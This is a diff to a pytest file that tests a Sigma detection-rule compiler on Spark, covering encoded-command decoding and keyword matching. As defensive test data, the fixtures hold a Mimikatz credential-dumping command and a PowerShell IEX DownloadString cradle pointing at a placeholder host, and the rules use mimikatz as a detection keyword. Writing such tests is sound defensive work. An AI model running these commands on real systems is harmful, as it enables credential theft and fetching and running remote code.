@@ -254,9 +254,12 @@ def test_sigma_list_of_maps_selection(spark):
 
     import pytest as _pytest
 
+    # keyword lists are full-text selections now (see
+    # test_sigma_keyword_selection); a non-scalar non-map form must
+    # still fail loudly rather than silently skipping
     bad = {
-        "title": "keyword list unsupported",
-        "detection": {"selection": ["some keyword"], "condition": "selection"},
+        "title": "nested list unsupported",
+        "detection": {"selection": [["x"]], "condition": "selection"},
     }
     with _pytest.raises(ValueError, match="unsupported sigma selection"):
         sigma_filter(_events(spark), bad)
@@ -330,3 +333,120 @@ def test_sigma_windash_per_occurrence_and_unicode_dashes(spark):
         },
     }
     assert sorted(r.id for r in sigma_filter(df, rule).collect()) == [1, 2, 3]
+
+
+def test_sigma_exists_and_fieldref(spark):
+    df = spark.createDataFrame(
+        [(1, "a", "a", None), (2, "a", "b", "x"), (3, None, "c", "y")],
+        "id long, u string, v string, extra string",
+    )
+    got = [
+        r.id
+        for r in df.filter(
+            compile_sigma(
+                df,
+                {
+                    "detection": {
+                        "sel": {"u|fieldref": "v"},
+                        "condition": "sel",
+                    }
+                },
+            )
+        ).collect()
+    ]
+    assert got == [1]
+    got = [
+        r.id
+        for r in df.filter(
+            compile_sigma(
+                df,
+                {
+                    "detection": {
+                        "present": {"extra|exists": True},
+                        "absent": {"u|exists": False},
+                        "condition": "present and not absent",
+                    }
+                },
+            )
+        ).collect()
+    ]
+    assert got == [2]
+
+
+def test_sigma_cased_modifier(spark):
+    df = spark.createDataFrame(
+        [(1, "PowerShell"), (2, "powershell"), (3, "POWERSHELL")],
+        "id long, proc string",
+    )
+
+    def ids(sel):
+        rule = {"detection": {"sel": sel, "condition": "sel"}}
+        return sorted(r.id for r in df.filter(compile_sigma(df, rule)).collect())
+
+    assert ids({"proc|cased": "PowerShell"}) == [1]
+    assert ids({"proc": "PowerShell"}) == [1, 2, 3]  # default case-fold
+    assert ids({"proc|contains|cased": "werS"}) == [1]
+    assert ids({"proc|startswith|cased": "Power"}) == [1]
+    assert ids({"proc|cased": "Power*"}) == [1]  # cased wildcard
+
+
+def test_sigma_base64offset_matches_any_alignment(spark):
+    """The classic encoded-command shape: the needle must be found in
+    a base64 stream regardless of its byte offset mod 3."""
+    import base64
+
+    needle = "Invoke-Mimikatz"
+    rows = [
+        (i, base64.b64encode((prefix + needle + " -DumpCreds").encode()).decode())
+        for i, prefix in enumerate(["", "x", "xy", "xyz"])
+    ]
+    rows.append((99, base64.b64encode(b"benign command").decode()))
+    df = spark.createDataFrame(rows, "id long, cmd string")
+    rule = {
+        "detection": {
+            "sel": {"cmd|base64offset|contains": needle},
+            "condition": "sel",
+        }
+    }
+    got = sorted(r.id for r in df.filter(compile_sigma(df, rule)).collect())
+    assert got == [0, 1, 2, 3]
+
+
+def test_sigma_utf16le_base64offset(spark):
+    """PowerShell -EncodedCommand is base64(utf16le(script)) — the
+    utf16le|base64offset|contains chain must find a needle in it."""
+    import base64
+
+    script = "IEX (New-Object Net.WebClient).DownloadString('http://x')"
+    enc = base64.b64encode(script.encode("utf-16le")).decode()
+    df = spark.createDataFrame(
+        [(1, enc), (2, base64.b64encode(b"hello world").decode())],
+        "id long, cmd string",
+    )
+    rule = {
+        "detection": {
+            "sel": {"cmd|utf16le|base64offset|contains": "DownloadString"},
+            "condition": "sel",
+        }
+    }
+    got = [r.id for r in df.filter(compile_sigma(df, rule)).collect()]
+    assert got == [1]
+
+
+def test_sigma_keyword_selection(spark):
+    df = spark.createDataFrame(
+        [
+            (1, "Failed password for root", "sshd"),
+            (2, "Accepted publickey", "sshd"),
+            (3, "session opened", "MIMIKATZ.exe"),
+        ],
+        "id long, message string, proc string",
+    )
+    rule = {
+        "detection": {
+            "keywords": ["failed password", "mimikatz*"],
+            "condition": "keywords",
+        }
+    }
+    got = sorted(r.id for r in df.filter(compile_sigma(df, rule)).collect())
+    assert got == [1, 3]  # matches across DIFFERENT columns
